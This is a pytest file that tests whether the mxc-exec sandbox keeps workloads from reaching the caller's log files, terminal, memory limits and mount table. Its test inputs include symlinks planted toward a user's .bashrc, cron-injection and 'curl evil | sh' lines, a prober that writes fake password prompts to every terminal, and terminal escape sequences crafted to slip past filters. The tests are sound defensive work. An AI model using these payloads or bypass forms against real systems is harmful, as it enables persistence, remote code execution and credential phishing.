"""Containment, second round (issue 10): nothing a sandbox plants reaches the caller's side —
log files, the person's terminal, rootless limits.

Each attack runs on every surface it applies to (one-shot, session; root and rootless) and
asserts the specific refusal and that the caller's side is unchanged.
"""
import json
import os
import signal
import subprocess
import sys
import tempfile
import termios
import time

import pytest

from conftest import (DROP, MXC_EXEC, UID, PtyScreen, assert_ok_envelope, errno_of, h, leftover_claims,  # noqa: F401
                      oneshot_request, owned_tmpdir, rl, unique, verb_result, wait_until)

OSC52 = b"\x1b]52;c;cGF5bG9hZA==\x07"


def ok(r):
    assert r.rc == 0, r.describe()
    return r.stdout


# ------------------------------------------------------------------------------------------------
# helpers: a person's terminal


class Terminal(PtyScreen):
    """mxc-exec on a pty made here (the person's terminal): write keys, read the screen, look
    at the terminal's modes, signal the caller."""

    def __init__(self, argv, env, rows=24, cols=80):
        super().__init__(rows, cols)
        # a person's shell gives the caller these signals at their defaults; a CI runner under
        # nohup (SIGHUP ignored) would not, and mxc keeps an ignored signal ignored
        argv = ["env", "--default-signal=HUP,INT,TERM,QUIT"] + list(argv)
        self.p = subprocess.Popen(argv, stdin=self.slave, stdout=self.slave, stderr=self.slave, env=env,
                                  start_new_session=True)


def request_file(mxc, req):
    return mxc.config_file(req)


def terminal_run(mxc, req, flags=(), env=None):
    argv = [MXC_EXEC] + list(flags) + (["--experimental"] if "phase" in req else []) + \
        ["--config", request_file(mxc, req)]
    return Terminal(argv, mxc.env(env))


# ------------------------------------------------------------------------------------------------
# 1. --log-file: a link the sandbox planted, the workload's stderr


@pytest.fixture
def target_dir():
    d = tempfile.mkdtemp(prefix="mxc-logtarget-", dir="/var/tmp")
    os.chmod(d, 0o755)
    yield d
    subprocess.run(["rm", "-rf", d])


def test_log_file_symlink_planted_by_the_sandbox_is_refused(mxc, session, target_dir):
    target = os.path.join(target_dir, "cron-x")
    ok(session.exec("ln -s %s $HOME/mxc.log; mkdir $HOME/d; ln -s %s $HOME/d2" % (target, target_dir)))
    for log in (os.path.join(session.workspace, "mxc.log"), os.path.join(session.workspace, "d2", "x.log"),
                os.path.join(session.workspace, "d", "fresh.log")):
        r = mxc(argv=["--experimental", "--log-file", log, "--config",
                      request_file(mxc, {"phase": "exec", "sandboxId": session.id,
                                         "process": {"commandLine": "echo '* * * * * root pwn' >&2"}})])
        assert r.rc != 0 and r.error, r.describe()
        assert r.error["operation"] == "log.open", r.describe()
        assert "pwn" not in r.stderr, "the workload ran and its stderr went somewhere: " + r.describe()
    assert os.listdir(target_dir) == [], os.listdir(target_dir)


def _log_refused(r, target_dir):
    assert r.rc != 0 and r.error, r.describe()
    assert r.error["operation"] == "log.open", r.describe()
    assert "symlink" in r.error["message"] or "live sandbox" in r.error["message"], r.describe()
    assert "pwn" not in r.stderr, "the workload ran and its stderr went somewhere: " + r.describe()
    assert os.listdir(target_dir) == [], os.listdir(target_dir)


def test_log_file_through_a_link_planted_by_an_ended_oneshot_is_refused(mxc, host_dir, target_dir):
    """One-shot 1 (rw grant G) plants G/d -> target; it has ended, so no live claim covers G
    when the next one-shot's --log-file G/d/x.log is opened (before its own grants are claimed).
    No symlink is followed anywhere in a log path: refused, the target untouched."""
    g = host_dir("g-oneshot")
    r = mxc.oneshot("ln -s %s %s/d && echo planted" % (target_dir, g), filesystem={"readwritePaths": [g]})
    assert (r.rc, r.stdout) == (0, "planted\n"), r.describe()
    req = oneshot_request("echo '* * * * * root pwn' >&2", filesystem={"readwritePaths": [g]})
    r = mxc(argv=["--log-file", os.path.join(g, "d", "x.log"), "--config", request_file(mxc, req)])
    _log_refused(r, target_dir)


def test_log_file_through_a_link_planted_by_an_ended_session_is_refused(mxc, session_factory, host_dir,
                                                                         target_dir):
    g = host_dir("g-session")
    s = session_factory(filesystem={"readwritePaths": [g]})
    ok(s.exec("ln -s %s %s/d" % (target_dir, g)))
    assert_ok_envelope(s.stop())
    assert_ok_envelope(s.deprovision())
    req = oneshot_request("echo '* * * * * root pwn' >&2")
    r = mxc(argv=["--log-file", os.path.join(g, "d", "x.log"), "--config", request_file(mxc, req)])
    _log_refused(r, target_dir)


def test_log_file_inside_a_live_rw_grant_is_refused(mxc, session_factory, host_dir):
    g = host_dir("g-live")
    s = session_factory(filesystem={"readwritePaths": [g]})
    req = oneshot_request("echo '* * * * * root pwn' >&2")
    r = mxc(argv=["--log-file", os.path.join(g, "x.log"), "--config", request_file(mxc, req)])
    _log_refused(r, g)
    assert s.exec("true").rc == 0


def test_workload_stderr_never_lands_in_the_log(mxc, sandbox, scratch):
    log = os.path.join(scratch, "mxc-%s.log" % unique("log"))
    sb = sandbox()
    req = sb.request("echo WORKLOAD-STDERR >&2; echo out")
    r = mxc(argv=(["--experimental"] if "phase" in req else []) + ["--debug", "--log-file", log, "--config",
                                                                   request_file(mxc, req)])
    assert (r.rc, r.stdout) == (0, "out\n"), r.describe()
    assert "WORKLOAD-STDERR" in r.stderr, r.describe()  # the caller's own stderr
    text = open(log).read()
    assert "WORKLOAD-STDERR" not in text, text
    assert "mxc-exec" in text, text  # the diagnostics did go there
    assert os.stat(log).st_mode & 0o777 == 0o600


def test_rootless_log_file_symlink_cannot_reach_the_users_files(rl):
    home = owned_tmpdir("mxc-rootless-home-")
    bashrc = os.path.join(home, ".bashrc")
    with open(bashrc, "w") as f:
        f.write("# the user's own\n")
    os.chown(bashrc, UID, UID)
    try:
        res = rl.provision(helper=False)
        sid, ws = res["sandboxId"], res["metadata"]["ephemeralWorkspacePath"]
        assert_ok_envelope(rl.phase("start", sid))
        assert rl.exec(sid, "ln -s %s $HOME/mxc.log; ln -s %s $HOME/d" % (bashrc, home)).rc == 0
        for log in (os.path.join(ws, "mxc.log"), os.path.join(ws, "d", ".bashrc")):
            req = {"phase": "exec", "sandboxId": sid, "process": {"commandLine": "echo 'curl evil | sh' >&2"}}
            path = rl.config_file(req)
            os.chmod(path, 0o644)
            p = subprocess.run(DROP + [MXC_EXEC, "--experimental", "--log-file", log, "--config", path],
                               capture_output=True, env=rl.env(), timeout=60)
            assert p.returncode != 0, (p.stdout, p.stderr)
            assert b"log.open" in p.stdout, p.stdout
        assert open(bashrc).read() == "# the user's own\n"
    finally:
        subprocess.run(["rm", "-rf", home])


def test_rootless_log_file_through_a_link_planted_by_an_ended_oneshot_is_refused(rl):
    home = owned_tmpdir("mxc-rootless-home-")
    bashrc = os.path.join(home, ".bashrc")
    with open(bashrc, "w") as f:
        f.write("# the user's own\n")
    os.chown(bashrc, UID, UID)
    g = os.path.join(rl.scratch, "g")
    os.mkdir(g)
    os.chown(g, UID, UID)
    try:
        r = rl.oneshot("ln -s %s %s/d && echo planted" % (home, g), filesystem={"readwritePaths": [g]})
        assert (r.rc, r.stdout) == (0, "planted\n"), r.describe()
        req = oneshot_request("echo 'curl evil | sh' >&2", filesystem={"readwritePaths": [g]})
        path = rl.config_file(req)
        os.chmod(path, 0o644)
        p = subprocess.run(DROP + [MXC_EXEC, "--log-file", os.path.join(g, "d", ".bashrc"), "--config", path],
                           capture_output=True, env=rl.env(), timeout=60)
        assert p.returncode != 0, (p.stdout, p.stderr)
        assert b'"operation":"log.open"' in p.stdout.replace(b" ", b""), p.stdout
        assert b"curl evil" not in p.stderr, p.stderr
        assert open(bashrc).read() == "# the user's own\n"
        assert sorted(os.listdir(home)) == [".bashrc"], os.listdir(home)
    finally:
        subprocess.run(["rm", "-rf", home])


# ------------------------------------------------------------------------------------------------
# 2. rootless memory: no cgroup is delegated here, and the bound must still hold in one process


def test_rootless_memory_bound_holds_against_shared_memfd_and_stack_growth(rl):
    r = rl.oneshot(h("memtricks", 200) + "; " + h("memtricks", 8), host_env={"MXC_MEMORY_MAX": str(64 << 20)})
    out = ok(r)
    big, small = out.split("memtricks_shared", 2)[1], out.split("memtricks_shared", 2)[2]
    assert errno_of("memtricks_shared" + big, "memtricks_shared") == "ENOMEM", out
    assert errno_of(big, "memtricks_memfd") == "EPERM", out
    assert errno_of(big, "memtricks_growsdown") == "ENOMEM", out
    assert errno_of("memtricks_shared" + small, "memtricks_shared") == "ok", out  # under the bound: fine
    probe = json.loads(rl(argv=["--probe"]).stdout)["result"]
    assert "RLIMIT_AS" in probe["rlimitFallback"], probe


def test_rootless_memory_bound_holds_against_sysv_ipc_and_message_queues(rl):
    """SysV shared memory lives in the IPC namespace, not in any process's address space:
    segments attached, touched and detached (no IPC_RMID) stay resident and RLIMIT_AS never
    sees them. Without a memory cgroup, shmget (and msgget/semget: kernel memory of the same
    kind) are refused with ENOSYS, and POSIX message queues are bounded by RLIMIT_MSGQUEUE."""
    r = rl.oneshot(h("ipctricks", 10, 30), host_env={"MXC_MEMORY_MAX": str(64 << 20)})
    out = ok(r)
    assert errno_of(out, "ipctricks_shmget") == "ENOSYS", out
    assert "made=0" in verb_result(out, "ipctricks_shmget"), out
    assert errno_of(out, "ipctricks_msgget") == "ENOSYS", out
    assert errno_of(out, "ipctricks_semget") == "ENOSYS", out
    mq_bytes = int(verb_result(out, "ipctricks_mq").split("bytes=")[1])
    assert mq_bytes <= 1 << 20, out
    # a session: nothing persists across execs either
    s = rl.provision(env={"MXC_MEMORY_MAX": str(64 << 20)})
    sid = s["sandboxId"]
    assert_ok_envelope(rl.phase("start", sid, env={"MXC_MEMORY_MAX": str(64 << 20)}))
    for _ in range(2):
        r = rl.exec(sid, h("ipctricks", 3, 30), host_env={"MXC_MEMORY_MAX": str(64 << 20)})
        assert errno_of(ok(r), "ipctricks_shmget") == "ENOSYS", r.stdout
    r = rl.exec(sid, "cat /proc/sysvipc/shm | wc -l")
    assert ok(r).strip() in ("0", "1"), r.stdout  # a header line, no segment


# ------------------------------------------------------------------------------------------------
# 3. a terminal per exec


# exec 1 leaves this prober: until the test leaves $HOME/stop (or ~2 min pass) it opens every
# /dev/pts/N it can, writes a fake prompt to it and records that, and beats a heartbeat counter
# (renamed into place: never read half-written).
# exec 1 returns only once the first beat is written; exec 2 (attached) waits until it sees the
# heartbeat change, so its screen proves the prober was alive while it ran. Nothing here is
# bounded by how fast a loaded machine runs a loop: only by events, with generous caps.
TAKEOVER_PROBER = ("i=0; while [ $i -lt 2400 ] && [ ! -e $HOME/stop ]; do "
                   "for t in /dev/pts/[0-9]*; do "
                   "[ -e \"$t\" ] && { printf 'Password: ' > \"$t\" && echo \"opened $t\" >> $HOME/takeover; }; "
                   "done; i=$((i+1)); echo $i > $HOME/beat.t && mv $HOME/beat.t $HOME/beat; sleep 0.05; done")
TAKEOVER_START = ("rm -f $HOME/stop $HOME/beat; (%s) </dev/null >/dev/null 2>&1 & "
                  "n=0; while [ ! -s $HOME/beat ] && [ $n -lt 1200 ]; do sleep 0.05; n=$((n+1)); done" % TAKEOVER_PROBER)
TAKEOVER_VICTIM = ("tty; a=$(cat $HOME/beat); n=0; b=$a; "
                   "while [ \"$a\" = \"$b\" ] && [ $n -lt 600 ]; do sleep 0.1; b=$(cat $HOME/beat); n=$((n+1)); done; "
                   "[ -n \"$a\" ] && [ \"$a\" != \"$b\" ] && echo prober-alive; sleep 1; echo done-here")


def _takeover_checks(term, later_exec):
    try:
        assert term.read_until(b"done-here"), term.screen
        assert term.finish() == 0, term.screen
        assert b"/dev/pts/" in term.screen, term.screen
        assert b"prober-alive" in term.screen, "exec 1's prober was not running: " + repr(term.screen)
        assert b"Password" not in term.screen, term.screen
    finally:
        term.close()
    r = later_exec("touch $HOME/stop; sleep 1; cat $HOME/takeover 2>/dev/null; true")
    assert r.rc == 0 and "opened" not in r.stdout, r.stdout


def test_an_earlier_exec_cannot_take_over_a_later_execs_terminal(mxc, session):
    """exec 1 leaves a process that opens every /dev/pts/N it can and writes a fake prompt to
    it; exec 2 is attached to a person's terminal. Exec 2's terminal is a devpts instance of
    its own: exec 1 never reaches it, and nothing of exec 1 shows on the person's screen."""
    bg = mxc.popen({"phase": "exec", "sandboxId": session.id,
                    "process": {"commandLine": TAKEOVER_START}})
    bg.communicate(timeout=60)
    term = terminal_run(mxc, {"phase": "exec", "sandboxId": session.id,
                              "process": {"commandLine": TAKEOVER_VICTIM}})
    _takeover_checks(term, session.exec)


def test_rootless_an_earlier_exec_cannot_take_over_a_later_execs_terminal(rl):
    """The same, rootless: every exec is the caller's own uid, so only the devpts instance of
    its own keeps exec 1 out of exec 2's terminal."""
    res = rl.provision(helper=False)
    sid = res["sandboxId"]
    assert_ok_envelope(rl.phase("start", sid))
    r = rl.exec(sid, TAKEOVER_START)
    assert r.rc == 0, r.describe()
    path = rl.config_file({"phase": "exec", "sandboxId": sid, "process": {"commandLine": TAKEOVER_VICTIM}})
    os.chmod(path, 0o644)
    term = Terminal(DROP + [MXC_EXEC, "--experimental", "--config", path], rl.env())
    _takeover_checks(term, lambda cmd: rl.exec(sid, cmd))


# ------------------------------------------------------------------------------------------------
# 4. the timeout's last tier without a cgroup


def test_rootless_timeout_kills_a_setsid_grandchild(rl):
    marker = "37.%d" % (os.getpid() % 1000)
    res = rl.provision(helper=False)
    sid = res["sandboxId"]
    assert_ok_envelope(rl.phase("start", sid))
    r = rl.exec(sid, "setsid sh -c 'exec sleep %s' & sleep 100" % marker, timeout_ms=300)
    assert r.rc == 255, r.describe()
    assert json.loads(r.stderr.strip().splitlines()[-1])["error"]["details"]["timedOut"] is True
    assert wait_until(lambda: subprocess.run(["pgrep", "-f", "sleep %s" % marker]).returncode != 0, 10), \
        "the setsid grandchild outlived the timeout"


def test_timeout_kills_a_setsid_grandchild(mxc, session):
    marker = "38.%d" % (os.getpid() % 1000)
    r = session.exec("setsid sh -c 'exec sleep %s' & sleep 100" % marker, timeout_ms=300)
    assert r.rc == 255, r.describe()
    assert wait_until(lambda: subprocess.run(["pgrep", "-f", "sleep %s" % marker]).returncode != 0, 10)


# ------------------------------------------------------------------------------------------------
# 5. the person's terminal


def test_terminal_sequences_acting_on_the_persons_machine_are_filtered(mxc, sandbox):
    sb = sandbox()
    cmd = ("printf 'A\\033]52;c;cGF5bG9hZA==\\007B\\033[21tC\\033P$qm\\033\\\\D\\033[cE\\033[6nF"
           "\\033]0;title\\007G\\033[1mH\\033[0m\\n'")
    term = terminal_run(mxc, sb.request(cmd))
    try:
        assert term.finish() == 0, term.screen
    finally:
        term.close()
    assert b"AB" in term.screen and b"CD" in term.screen and b"EF" in term.screen, term.screen
    assert b"\x1b]52" not in term.screen and b"\x1b[21t" not in term.screen, term.screen
    assert b"\x1bP$q" not in term.screen and b"\x1b[c" not in term.screen, term.screen
    assert b"\x1b[6n" not in term.screen and b"\x1b]0;" not in term.screen, term.screen
    assert b"G\x1b[1mH\x1b[0m" in term.screen, term.screen  # colours still pass
    raw = terminal_run(mxc, sb.request(cmd), flags=["--raw-terminal"])
    try:
        assert raw.finish() == 0, raw.screen
    finally:
        raw.close()
    assert OSC52 in raw.screen, raw.screen  # the opt-out passes it through


def test_terminal_filter_bypass_forms_do_not_reach_the_persons_terminal(mxc, sandbox):
    """A C0 control after ESC or inside CSI/OSC/DCS, and the C1 introducers written in UTF-8 or
    as raw 8-bit bytes: a terminal still acts on the sequence, so the filter must judge it."""
    sb = sandbox()
    cmd = ("printf 'A\\033\\015]52;c;cGF5bG9hZA==\\007B\\033[\\0156nC\\033[\\015cD"
           "\\033]5\\0152;c;cGF5bG9hZA==\\007E\\033P\\015$qm\\033\\\\F"
           "\\302\\23552;c;cGF5bG9hZA==\\007G\\302\\2336nH\\302\\233cI\\302\\220$qm\\302\\234J"
           "\\2336nK\\23552;c;cGF5bG9hZA==\\007L\\033[1mM\\033[0m\\n'")
    term = terminal_run(mxc, sb.request(cmd))
    try:
        assert term.finish() == 0, term.screen
    finally:
        term.close()
    screen = term.screen.replace(b"\r", b"")
    for dangerous in (b"]52", b"52;c", b"6n", b"[c", b"$q", b"\xc2\x9d", b"\xc2\x9b", b"\xc2\x90", b"\x9b", b"\x9d"):
        assert dangerous not in screen, (dangerous, term.screen)
    for visible in (b"AB", b"BC", b"CD", b"DE", b"EF", b"FG", b"GH", b"HI", b"IJ", b"JK", b"KL"):
        assert visible in screen, (visible, term.screen)
    assert b"L\x1b[1mM\x1b[0m" in screen, term.screen  # colours still pass


def test_workload_on_a_terminal_gets_one_of_its_own(mxc, sandbox):
    sb = sandbox()
    term = terminal_run(mxc, sb.request("tty; stty size; test -t 0 -a -t 1 -a -t 2 && echo all-ttys"))
    try:
        assert term.finish() == 0, term.screen
    finally:
        term.close()
    lines = term.lines()
    assert lines[0].startswith("/dev/pts/"), lines
    assert lines[1] == "24 80", lines
    assert "all-ttys" in lines, lines


def test_workload_without_a_terminal_has_no_controlling_tty(sandbox):
    out = ok(sandbox().run(h("devtty")))
    assert errno_of(out, "devtty") == "ENXIO", out


def test_sigterm_of_an_attached_caller_restores_the_terminal(mxc, sandbox):
    sb = sandbox()
    since = time.time()
    term = terminal_run(mxc, sb.request("echo started; sleep 60"))
    try:
        assert term.read_until(b"started"), term.screen
        lflag = term.lflag()
        assert not (lflag & termios.ECHO) and not (lflag & termios.ICANON), "not in raw mode"
        for sig in (signal.SIGTERM,):
            term.p.send_signal(sig)
        assert term.p.wait(timeout=30) == -signal.SIGTERM
        lflag = term.lflag()
        assert lflag & termios.ECHO and lflag & termios.ICANON, "the terminal was left raw"
    finally:
        term.close()
    # the run's uid claim went with it (a cleaner releases it once PID 1 is gone)
    assert wait_until(lambda: not leftover_claims(since), 10), leftover_claims(since)


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGHUP])
def test_other_signals_of_an_attached_caller_restore_the_terminal(mxc, session, sig):
    term = terminal_run(mxc, {"phase": "exec", "sandboxId": session.id,
                              "process": {"commandLine": "echo started; sleep 60"}})
    try:
        assert term.read_until(b"started"), term.screen
        term.p.send_signal(sig)
        term.p.wait(timeout=30)
        lflag = term.lflag()
        assert lflag & termios.ECHO and lflag & termios.ICANON, "the terminal was left raw"
    finally:
        term.close()
    # the exec died with its caller: the session serves the next one
    r = session.exec("echo next")
    assert (r.rc, r.stdout) == (0, "next\n"), r.describe()


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGHUP])
def test_other_signals_of_an_attached_oneshot_caller_restore_the_terminal(mxc, sig):
    since = time.time()
    term = terminal_run(mxc, oneshot_request("echo started; sleep 60"))
    try:
        assert term.read_until(b"started"), term.screen
        lflag = term.lflag()
        assert not (lflag & termios.ECHO) and not (lflag & termios.ICANON), "not in raw mode"
        term.p.send_signal(sig)
        term.p.wait(timeout=30)
        lflag = term.lflag()
        assert lflag & termios.ECHO and lflag & termios.ICANON, "the terminal was left raw"
    finally:
        term.close()
    assert wait_until(lambda: not leftover_claims(since), 10), leftover_claims(since)


# ------------------------------------------------------------------------------------------------
# 6. no grant reaches mxc's own state: the state root, the claims directory, the workspace root


def _grant_refused(r, path):
    assert r.rc != 0 and r.error, r.describe()
    assert r.error["code"] == "policy_validation", r.describe()
    assert path in r.error["message"] and ("covers" in r.error["message"] or "inside" in r.error["message"]), \
        r.describe()
    assert "RAN" not in r.stdout, r.describe()


def test_grants_covering_mxcs_own_state_are_refused(mxc, session_factory):
    ws_root = mxc.state_dir + ".ws"
    s = session_factory()  # makes the state root and the workspace root
    assert s.id
    inside = next(os.path.join(mxc.state_dir, d) for d in os.listdir(mxc.state_dir)
                  if os.path.isdir(os.path.join(mxc.state_dir, d)) and not d.startswith("."))
    os.makedirs("/var/lib/mxc/claims", exist_ok=True)
    made_pool = not os.path.isdir("/run/mxc-netpool")  # model 1's pool (src/net/netpool.h), as it makes it
    if made_pool:
        os.mkdir("/run/mxc-netpool", 0o700)
    cases = [("readwritePaths", "/run/mxc-netpool"),  # root's records of pids it kills, namespaces it joins
             ("readonlyPaths", "/run/mxc-netpool"),
             ("readwritePaths", os.path.dirname(mxc.state_dir)),   # contains the state root
             ("readwritePaths", mxc.state_dir),
             ("readonlyPaths", mxc.state_dir),
             ("readwritePaths", inside),                              # another sandbox's state
             ("readonlyPaths", "/var/lib/mxc/claims"),
             ("readwritePaths", "/var/lib/mxc"),
             ("readwritePaths", ws_root)]
    for key, path in cases:
        r = mxc.oneshot("echo RAN", filesystem={key: [path]}, helper=False)
        _grant_refused(r, path)
        # a session: refused by the start that would mount it (provision only records the policy)
        r = mxc({"containment": "isolation_session", "phase": "provision", "filesystem": {key: [path]}})
        if r.rc == 0:
            r = mxc.phase("start", r.result["sandboxId"])
        _grant_refused(r, path)
    if made_pool:
        try:
            os.rmdir("/run/mxc-netpool")
        except OSError:  # the pool took it meanwhile
            pass
    # a directory beside them is fine
    r = mxc.oneshot("echo RAN", filesystem={"readwritePaths": [mxc.scratch]})
    assert (r.rc, r.stdout) == (0, "RAN\n"), r.describe()


def test_rootless_grants_covering_mxcs_own_state_are_refused(rl):
    # the rootless claims directory: in the caller's private directory (issue 27 #5: no longer the
    # predictable /tmp/mxc-claims-UID a stranger could take first) — $XDG_RUNTIME_DIR, /run/user/UID,
    # else /tmp/mxc-UID (src/lib/state.c, mxc_private_dir)
    xdg = rl.env().get("XDG_RUNTIME_DIR")
    base = xdg or ("/run/user/%d" % UID if os.path.isdir("/run/user/%d" % UID) else "/tmp/mxc-%d" % UID)
    claims = os.path.join(base, "mxc-claims")
    res = rl.provision()  # makes the state root, the workspace root, the claims directory
    assert res["sandboxId"]
    for key, path in [("readwritePaths", rl.state_dir), ("readwritePaths", os.path.dirname(rl.state_dir)),
                      ("readonlyPaths", claims), ("readwritePaths", rl.state_dir + ".ws")]:
        assert os.path.isdir(path), path
        req = oneshot_request("echo RAN", filesystem={key: [path]}, helper=False)
        r = rl(req)
        _grant_refused(r, path)


# ------------------------------------------------------------------------------------------------
# 7. the host's mount table: on a host whose mounts are shared (systemd makes every mount shared),
# nothing of a sandbox's view propagates back — not a nested grant, not a mask

SHARED_HOST_DRIVER = r'''
import json, os, subprocess, sys
exe, a = sys.argv[1], sys.argv[2]
def mounts():
    with open("/proc/self/mountinfo") as f:
        return set(f.read().splitlines())
def mxc(req):
    p = subprocess.run([exe, "--experimental", "--config", "-"], input=json.dumps(req).encode(),
                       capture_output=True)
    return {"rc": p.returncode, "out": p.stdout.decode(), "err": p.stderr.decode()[-2000:]}
def host(when, ran=None):
    try:
        with open(a + "/c/f") as f:
            masked = f.read()
    except OSError as e:
        masked = str(e)
    print(json.dumps({"when": when, "new": sorted(mounts() - before), "masked_file_on_host": masked,
                      "b_writable_on_host": os.access(a + "/b/g", os.W_OK), "ran": ran}), flush=True)
fs = {"readwritePaths": [a], "readonlyPaths": [a + "/b"], "deniedPaths": [a + "/c"]}
look = "cat %s/b/g; cat %s/c/f 2>&1; true" % (a, a)
before = mounts()
host("one-shot", mxc({"containment": "process", "process": {"commandLine": look}, "filesystem": fs}))
sid = json.loads(mxc({"containment": "isolation_session", "phase": "provision", "filesystem": fs})["out"])
sid = sid["result"]["sandboxId"]
host("started", mxc({"phase": "start", "sandboxId": sid}))
host("exec", mxc({"phase": "exec", "sandboxId": sid, "process": {"commandLine": look}}))
host("deprovisioned", mxc({"phase": "deprovision", "sandboxId": sid}))
'''


def test_nothing_of_the_view_propagates_to_a_host_with_shared_mounts(mxc, scratch):
    """The caller's copies of grants (and of /etc's directories) are detached trees made from the
    host's mounts: on a host whose mounts are shared they were born peers of the host's, so the
    holder's mounts inside them (a read-only grant under a read-write one, a mask) appeared on the
    host, hid the host's own files there and outlived the sandbox.  Here the host is a mount
    namespace made for the test whose every mount is shared, as systemd leaves a host."""
    a = os.path.join(scratch, "a")
    for d in ("b", "c"):
        os.makedirs(os.path.join(a, d))
    with open(os.path.join(a, "b", "g"), "w") as f:
        f.write("granted\n")
    with open(os.path.join(a, "c", "f"), "w") as f:
        f.write("hidden\n")
    driver = os.path.join(scratch, "shared_host.py")
    with open(driver, "w") as f:
        f.write(SHARED_HOST_DRIVER)
    p = subprocess.run(["unshare", "--mount", "--propagation", "shared", sys.executable, driver, MXC_EXEC, a],
                       capture_output=True, env=mxc.env(), timeout=120)
    assert p.returncode == 0, p.stderr.decode()[-3000:]
    rows = [json.loads(line) for line in p.stdout.decode().splitlines()]
    assert [r["when"] for r in rows] == ["one-shot", "started", "exec", "deprovisioned"], rows
    for r in rows:
        assert r["new"] == [], r                      # no mount of the sandbox's on the host
        assert r["masked_file_on_host"] == "hidden\n", r
        assert r["b_writable_on_host"], r             # the read-only grant stayed the sandbox's
        assert r["ran"]["rc"] == 0, r
    for r in (rows[0], rows[2]):                      # inside: the grant reads, the mask holds
        assert r["ran"]["out"].startswith("granted\n"), r
        assert "hidden" not in r["ran"]["out"] and "Permission denied" in r["ran"]["out"], r
